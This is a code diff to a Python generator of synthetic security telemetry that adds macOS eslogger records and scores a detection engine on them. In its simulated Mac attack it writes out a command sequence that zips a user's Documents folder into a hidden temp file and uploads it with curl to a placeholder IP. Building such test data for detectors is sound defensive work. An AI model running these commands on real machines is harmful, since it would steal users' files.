@@ -64,11 +64,15 @@ class Chain:
 class Day:
     tetragon: list[tuple[float, bytes]] = field(default_factory=list)
     sysmon: list[tuple[float, str]] = field(default_factory=list)
+    eslogger: dict[str, list[tuple[float, bytes]]] = field(default_factory=dict)  # by Mac
     containers: set[str] = field(default_factory=set)
     hosts: set[str] = field(default_factory=set)
 
     def tetragon_bytes(self) -> bytes:
         return b"".join(r + b"\n" for _, r in sorted(self.tetragon))
+
+    def eslogger_bytes(self, host: str) -> bytes:
+        return b"".join(r + b"\n" for _, r in sorted(self.eslogger.get(host, [])))
 
     def sysmon_text(self) -> str:
         return "".join(x for _, x in sorted(self.sysmon, key=lambda p: p[0]))
@@ -254,6 +258,55 @@ class Sysmon:
         )
 
 
+@dataclass
+class Mac:
+    """A developer's Mac, recorded with `eslogger exec rename` (no network: ES has none)."""
+
+    host: str
+    user: str
+    asid: int
+    seq: int = 0
+
+
+class Eslogger:
+    def __init__(self, day: Day) -> None:
+        self.day = day
+
+    def _write(self, mac: Mac, time: float, pid: int, path: str, number: int, body: Any) -> None:
+        mac.seq += 1
+        token = {"auid": 501, "euid": 501, "ruid": 501, "pid": pid, "asid": mac.asid}
+        record = {
+            "schema_version": 1,
+            "mach_time": int(time * 1e6),
+            "event_type": number,
+            "version": 7,
+            "seq_num": mac.seq,
+            "process": {"audit_token": token, "ppid": 1, "executable": {"path": path}},
+            "event": body,
+            "time": iso(time),
+        }
+        self.day.eslogger.setdefault(mac.host, []).append((time, orjson.dumps(record)))
+        self.day.hosts.add(mac.host)
+
+    def exec(self, mac: Mac, pid: int, path: str, args: list[str], time: float) -> None:
+        token = {"auid": 501, "euid": 501, "ruid": 501, "pid": pid, "asid": mac.asid}
+        target = {"audit_token": token, "ppid": pid - 1, "executable": {"path": path}}
+        body = {"exec": {"target": target, "args": args, "cwd": {"path": f"/Users/{mac.user}"}}}
+        self._write(mac, time, pid, path, 9, body)
+
+    def rename(self, mac: Mac, pid: int, path: str, source: str, target: str, time: float) -> None:
+        folder, _, name = target.rpartition("/")
+        body = {
+            "rename": {
+                "source": {"path": source},
+                "destination_type": 1,
+                "destination": {"new_path": {"dir": {"path": folder + "/"}, "filename": name}},
+            }
+        }
+        self._write(mac, time, pid, path, 25, body)
+
+
+SAFARI = "/Applications/Safari.app/Contents/MacOS/Safari"
 TEAMS = "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"
 ONEDRIVE = "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
 EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
@@ -295,7 +348,8 @@ class Week:
     host_days: int
 
     def write(self, folder: Path) -> list[tuple[Path, ...]]:
-        """One Tetragon file and one Sysmon file per day; the paths of each day."""
+        """One Tetragon and one Sysmon file per day (the paths of each day), and one eslogger
+        file per Mac and day (an export names no host: see mac_files)."""
         folder.mkdir(parents=True, exist_ok=True)
         out: list[tuple[Path, ...]] = []
         for n, day in enumerate(self.days):
@@ -303,6 +357,8 @@ class Week:
             tetragon.write_bytes(day.tetragon_bytes())
             sysmon = folder / f"day{n}.sysmon.xml"
             sysmon.write_text(day.sysmon_text())
+            for host in day.eslogger:
+                (folder / f"day{n}.{host}.eslogger.jsonl").write_bytes(day.eslogger_bytes(host))
             out.append((tetragon, sysmon))
         return out
 
@@ -587,18 +643,54 @@ class _Builder:
                     writer.connect(desk, rc, ROBOCOPY, "10.30.1.5", 445, t + 31)
         return desks
 
+    def macs(self) -> list[Mac]:
+        """Developer Macs: downloads finished by Safari, an app zipped with ditto and sent to
+        Apple's notary service and App Store Connect."""
+        macs = []
+        for n in range(max(1, self.n(3))):
+            mac = Mac(f"dev-mbp-{n}.corp.example.com", f"dev{n}", 100_000 + n)
+            macs.append(mac)
+            for day in range(self.ndays):
+                writer = Eslogger(self.days[day])
+                t = START + day * DAY + 9 * 3600 + self.rng.uniform(0, 3600)
+                pid = 7000 + 100 * day
+                home = f"/Users/{mac.user}"
+                got = f"{home}/Downloads/sdk-{day}.zip"
+                writer.rename(mac, pid, SAFARI, got + ".download", got, t)
+                if self.rng.random() < 0.5:
+                    app = f"{home}/build/App-{day}.zip"
+                    ditto = ["ditto", "-c", "-k", "--keepParent", f"{home}/build/App.app", app]
+                    writer.exec(mac, pid + 1, "/usr/bin/ditto", ditto, t + 600)
+                    notary = ["xcrun", "notarytool", "submit", app, "--keychain-profile", "ci"]
+                    writer.exec(mac, pid + 2, "/usr/bin/xcrun", notary, t + 620)
+                    upload = ["xcrun", "altool", "--upload-app", "-f", app, "-t", "macos"]
+                    writer.exec(mac, pid + 3, "/usr/bin/xcrun", upload, t + 1800)
+        return macs
+
     # --- attacks -------------------------------------------------------------------------
 
-    def attacks(self, pods: list[Pod], desks: list[Desktop]) -> None:
+    def attacks(self, pods: list[Pod], desks: list[Desktop], macs: list[Mac]) -> None:
         first = max(0, self.ndays - 3)
         for n in range(self.nattacks):
             day = self.rng.randrange(first, self.ndays)
             t = self.at(day, 0.05, 0.9)
-            kind = n % 6
+            kind = n % 7
             if kind < 5:
                 self._container_attack(n, kind, self.rng.choice(pods), day, t)
-            else:
+            elif kind == 5:
                 self._desktop_attack(n, self.rng.choice(desks), day, t)
+            else:
+                self._mac_attack(n, self.rng.choice(macs), day, t)
+
+    def _mac_attack(self, n: int, mac: Mac, day: int, t: float) -> None:
+        writer = Eslogger(self.days[day])
+        loot = f"/private/tmp/.k{n}.zip"
+        pid = 9000 + 10 * n
+        zip_argv = ["zip", "-q", "-r", "-P", "hunter2", loot, f"/Users/{mac.user}/Documents"]
+        writer.exec(mac, pid, "/usr/bin/zip", zip_argv, t)
+        curl = ["curl", "-s", "-T", loot, f"https://203.0.113.{150 + n}/drop"]
+        writer.exec(mac, pid + 1, "/usr/bin/curl", curl, t + 12)
+        self.chains.append(Chain(f"chain-{n}", mac.host, t, t + 20, "eslogger"))
 
     def _container_attack(self, n: int, kind: int, pod: Pod, day: int, t: float) -> None:
         """A shell line, then each program it runs as its own exec, then the upload's flow."""
@@ -672,7 +764,8 @@ def generate(seed: int = 12, scale: float = 1.0, days: int = 7, attacks: int = 2
     builder.ci()
     builder.notebooks()
     desks = builder.desktops()
-    builder.attacks(pods, desks)
+    macs = builder.macs()
+    builder.attacks(pods, desks, macs)
     container_days = sum(len(d.containers) for d in builder.days)
     host_days = sum(len(d.hosts) for d in builder.days)
     return Week(builder.days, builder.chains, container_days, host_days)
@@ -737,8 +830,20 @@ def measure(week: Week, folder: Path, learn_days: int = 4) -> list[Figures]:
 
     files = week.write(folder)
     config = EngineConfig()
+    macs = sorted({host for day in week.days for host in day.eslogger})
+
+    def mac_alerts(days: range) -> list[dict[str, Any]]:
+        """Each Mac's eslogger export, read as `detect --assume-host HOST` reads it."""
+        alerts: list[dict[str, Any]] = []
+        for host in macs:
+            paths = [folder / f"day{n}.{host}.eslogger.jsonl" for n in days]
+            found = [str(p) for p in paths if p.exists()]
+            alerts += detect(found, EngineConfig(assume_host=host), []).alerts
+        return alerts
+
     plain = detect([str(p) for day in files for p in day], config, [])
-    figures = [score("no configuration", week, plain.alerts, range(len(files)))]
+    every = range(len(files))
+    figures = [score("no configuration", week, plain.alerts + mac_alerts(every), every)]
     store = Store(folder / "tw.duckdb")
     try:
         for day in files[:learn_days]:
@@ -754,5 +859,6 @@ def measure(week: Week, folder: Path, learn_days: int = 4) -> list[Figures]:
     finally:
         store.close()
     learned = f"after learning {learn_days} days with detect --db --learn"
-    figures.append(score(learned, week, alerts, range(learn_days, len(files))))
+    scored = range(learn_days, len(files))
+    figures.append(score(learned, week, alerts + mac_alerts(scored), scored))
     return figures
